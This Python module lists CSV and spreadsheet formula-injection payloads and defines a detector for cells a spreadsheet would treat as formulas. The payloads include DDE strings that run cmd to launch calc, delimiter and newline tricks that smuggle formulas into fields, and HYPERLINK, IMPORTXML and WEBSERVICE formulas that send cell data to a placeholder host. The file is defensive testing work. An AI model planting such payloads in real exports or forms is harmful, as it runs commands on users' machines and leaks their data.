"""What people have written into forms so that a spreadsheet carries it out, and how one knows such a cell."""

import unicodedata

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"Open")',
    '=IMPORTXML(CONCAT("https://example.org?",A1:E1),"//a")',
    '=WEBSERVICE("https://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t1",
    "\r1",
    '"=1+1',
    "'=1+1",
    '""=1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " ＝1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "x,=1+1",
    "x;=1+1",
    "x\t=1+1",
    'x","=1+1',
    'x";"=1+1',
    "x\n=1+1",
    "Олена;\r\n=cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "%0A-3+3+cmd|' /C calc'!D2",
    "=10+20+cmd|' /C calc'!A0",
    "|=1+1",
)
UNSEEN = ' "`\u00a0\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\ufeff'


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet, also one that takes full-width signs for signs, could take the cell for a formula."""
    if cell[:1] in ("\t", "\r"):
        return True
    seen = unicodedata.normalize("NFKC", cell.lstrip(UNSEEN))
    return seen[:1] in ("=", "+", "-", "@")
